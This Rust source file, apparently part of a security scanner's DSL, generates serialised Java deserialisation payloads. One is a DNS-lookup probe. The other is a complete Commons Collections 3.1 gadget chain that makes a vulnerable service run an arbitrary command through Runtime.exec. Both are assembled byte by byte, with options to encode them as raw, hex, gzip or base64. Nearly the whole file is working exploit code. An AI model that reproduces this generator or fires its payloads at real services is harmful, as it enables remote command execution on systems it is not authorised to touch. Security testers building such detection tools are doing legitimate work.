//! Serialised Java objects that tell when a service reads them (Java Object Serialization Specification §6.4).
//!
//! Two are known: `dns`, a map whose key is a URL, which has its host looked up and does nothing else; and
//! `commons-collections3.1`, which runs a command. Invariant: class descriptors are numbered as readers number them. Must
//! never import a folder above `expr`.

use std::io::Write as _;

use data_encoding::{BASE64, HEXLOWER};

use super::{Call, Function, function};
use crate::dsl::datum::Datum;
use crate::dsl::error::EvalError;

/// Bytes of a command or address.
const MOST: usize = 4096;

pub(super) const FUNCTIONS: &[Function] = &[function("generate_java_gadget", generate)];

fn generate(call: &mut Call<'_, '_>) -> Result<Datum, EvalError> {
    call.takes(3..=3)?;
    let (gadget, command, encoding) = (call.string(0)?, call.string(1)?, call.string(2)?);
    if command.len() > MOST {
        return call.fail(format!("a command has at most {MOST} bytes"));
    }
    let bytes = match &*gadget {
        b"dns" => of_url(&command),
        b"commons-collections3.1" => Some(of_command(&command)),
        _ => return call.fail("`generate_java_gadget` knows `dns` and `commons-collections3.1`"),
    };
    let Some(bytes) = bytes else { return call.fail("the gadget `dns` wants a URL") };
    let text = |bytes: &[u8]| BASE64.encode(bytes).replace('+', "%2B").into_bytes();
    let encoded = match &*encoding {
        b"raw" => bytes,
        b"hex" => HEXLOWER.encode(&bytes).into_bytes(),
        b"gzip" => gzipped(&bytes)?,
        b"gzip-base64" => text(&gzipped(&bytes)?),
        b"base64-raw" => BASE64.encode(&bytes).into_bytes(),
        _ => text(&bytes),
    };
    call.made(encoded)
}

fn gzipped(bytes: &[u8]) -> Result<Vec<u8>, EvalError> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let done = encoder.write_all(bytes).and_then(|()| encoder.finish());
    done.map_err(|error| EvalError::Failed(error.to_string()))
}

const STRING: &str = "Ljava/lang/String;";

/// A stream of serialised objects.
struct Stream(Vec<u8>);

/// A field of a class: its type, its name, and for objects the type's signature or the number of an earlier one.
enum Field<'n> {
    Primitive(u8, &'n str),
    Object(u8, &'n str, &'n str),
    Again(u8, &'n str, u16),
}

impl Stream {
    fn new() -> Self {
        Self(vec![0xac, 0xed, 0, 5])
    }

    fn bytes(&mut self, bytes: &[u8]) -> &mut Self {
        self.0.extend_from_slice(bytes);
        self
    }

    fn number(&mut self, number: u32) -> &mut Self {
        self.bytes(&number.to_be_bytes())
    }

    /// A length of two bytes and the text.
    fn name(&mut self, text: &[u8]) -> &mut Self {
        let length = u16::try_from(text.len()).unwrap_or(u16::MAX);
        self.bytes(&length.to_be_bytes()).bytes(text)
    }

    fn text(&mut self, text: &[u8]) -> &mut Self {
        self.bytes(b"\x74").name(text)
    }

    /// Something that is in the stream already.
    fn again(&mut self, handle: u16) -> &mut Self {
        self.bytes(b"\x71\x00\x7e").bytes(&handle.to_be_bytes())
    }

    /// A class descriptor up to the class above it.
    fn class(&mut self, name: &str, version: u64, flags: u8, fields: &[Field<'_>]) -> &mut Self {
        self.bytes(b"\x72").name(name.as_bytes()).bytes(&version.to_be_bytes()).bytes(&[flags]);
        let count = u16::try_from(fields.len()).unwrap_or(u16::MAX);
        self.bytes(&count.to_be_bytes());
        for field in fields {
            match field {
                Field::Primitive(kind, name) => self.bytes(&[*kind]).name(name.as_bytes()),
                Field::Object(kind, name, of) => self.bytes(&[*kind]).name(name.as_bytes()).text(of.as_bytes()),
                Field::Again(kind, name, of) => self.bytes(&[*kind]).name(name.as_bytes()).again(*of),
            };
        }
        self.bytes(b"\x78")
    }

    /// An object of a class with none above it; its fields follow.
    fn object(&mut self, name: &str, version: u64, flags: u8, fields: &[Field<'_>]) -> &mut Self {
        self.bytes(b"\x73").class(name, version, flags, fields).bytes(b"\x70")
    }

    /// An array of a class; its items follow.
    fn array(&mut self, name: &str, version: u64, count: u32) -> &mut Self {
        self.bytes(b"\x75").class(name, version, 2, &[]).bytes(b"\x70").number(count)
    }

    /// Another object (`s`) or array (`u`) of a class that is in the stream already.
    fn other(&mut self, kind: u8, class: u16) -> &mut Self {
        self.bytes(&[kind]).again(class)
    }

    /// A class itself.
    fn class_itself(&mut self, name: &str, version: u64, flags: u8) -> &mut Self {
        self.bytes(b"\x76").class(name, version, flags, &[]).bytes(b"\x70")
    }

    fn hash_map(&mut self, threshold: u32, count: u32) -> &mut Self {
        let fields = [Field::Primitive(b'F', "loadFactor"), Field::Primitive(b'I', "threshold")];
        self.object("java.util.HashMap", 0x0507_dac1_c316_60d1, 3, &fields);
        self.bytes(b"\x3f\x40\x00\x00").number(threshold).bytes(b"\x77\x08").number(16).number(count)
    }
}

/// A map with a URL for its key: its host is looked up when the map is read.
fn of_url(address: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(address).ok()?;
    let (scheme, rest) = text.split_once("://").unwrap_or(("", ""));
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = match host.rsplit_once(':') {
        Some((name, port)) if port.bytes().all(|byte| byte.is_ascii_digit()) => name,
        _ => host,
    };
    let fields = [
        Field::Primitive(b'I', "hashCode"),
        Field::Primitive(b'I', "port"),
        Field::Object(b'L', "authority", STRING),
        Field::Again(b'L', "file", 3),
        Field::Again(b'L', "host", 3),
        Field::Again(b'L', "protocol", 3),
        Field::Again(b'L', "ref", 3),
    ];
    let mut out = Stream::new();
    out.hash_map(12, 1).object("java.net.URL", 0x9625_3736_1afc_e472, 3, &fields);
    // No hash yet, no port.
    out.number(u32::MAX).number(u32::MAX);
    out.text(host.as_bytes()).text(b"").again(5).text(scheme.as_bytes()).bytes(b"\x70\x78");
    out.text(address).bytes(b"\x78");
    Some(out.0)
}

const COLLECTIONS: &str = "org.apache.commons.collections";
const OBJECT: &str = "Ljava/lang/Object;";

/// A set whose entry asks a lazy map for its hash, which has a chain of calls run: `Runtime.getRuntime().exec(command)`.
fn of_command(command: &[u8]) -> Vec<u8> {
    let mut out = Stream::new();
    out.object("java.util.HashSet", 0xba44_8595_96b8_b734, 3, &[]);
    out.bytes(b"\x77\x0c").number(2).bytes(b"\x3f\x40\x00\x00").number(1);
    let entry = [Field::Object(b'L', "key", OBJECT), Field::Object(b'L', "map", "Ljava/util/Map;")];
    out.object(&format!("{COLLECTIONS}.keyvalue.TiedMapEntry"), 0x8aad_d29b_39c1_1fdb, 2, &entry).text(b"key");
    let transformer = "Lorg/apache/commons/collections/Transformer;";
    let factory = [Field::Object(b'L', "factory", transformer)];
    out.object(&format!("{COLLECTIONS}.map.LazyMap"), 0x6ee5_9482_9e79_1094, 3, &factory);
    let array = format!("[{transformer}");
    let chain = [Field::Object(b'[', "iTransformers", &array)];
    out.object(&format!("{COLLECTIONS}.functors.ChainedTransformer"), 0x30c7_97ec_287a_9704, 2, &chain);
    out.array(&format!("[L{COLLECTIONS}.Transformer;"), 0xbd56_2af1_d834_1899, 5);
    calls(&mut out, command);
    out.hash_map(0, 0).bytes(b"\x78\x78\x78");
    out.0
}

/// The five links of the chain.
fn calls(out: &mut Stream, command: &[u8]) {
    let constant = [Field::Again(b'L', "iConstant", 3)];
    out.object(&format!("{COLLECTIONS}.functors.ConstantTransformer"), 0x5876_9011_4102_b194, 2, &constant);
    out.class_itself("java.lang.Runtime", 0, 0);
    let invoker = [
        Field::Object(b'[', "iArgs", "[Ljava/lang/Object;"),
        Field::Object(b'L', "iMethodName", STRING),
        Field::Object(b'[', "iParamTypes", "[Ljava/lang/Class;"),
    ];
    out.object(&format!("{COLLECTIONS}.functors.InvokerTransformer"), 0x87e8_ff6b_7b7c_ce38, 2, &invoker);
    out.array("[Ljava.lang.Object;", 0x90ce_589f_1073_296c, 2).text(b"getRuntime");
    out.array("[Ljava.lang.Class;", 0xab16_d7ae_cbcd_5a99, 0);
    out.text(b"getMethod").other(b'u', 0x1b).number(2);
    out.class_itself("java.lang.String", 0xa0f0_a438_7a3b_b342, 2).bytes(b"\x76").again(0x1b);
    out.other(b's', 0x13).other(b'u', 0x18).number(2).bytes(b"\x70").other(b'u', 0x18).number(0);
    out.text(b"invoke").other(b'u', 0x1b).number(2);
    out.class_itself("java.lang.Object", 0, 0).bytes(b"\x76").again(0x18);
    out.other(b's', 0x13).array("[Ljava.lang.String;", 0xadd2_56e7_e91d_7b47, 1).text(command);
    out.text(b"exec").other(b'u', 0x1b).number(1).again(0x20);
    out.other(b's', 0x0f).bytes(b"\x73");
    out.class("java.lang.Integer", 0x12e2_a0a4_f781_8738, 2, &[Field::Primitive(b'I', "value")]);
    out.class("java.lang.Number", 0x86ac_951d_0b94_e08b, 2, &[]).bytes(b"\x70").number(1);
}
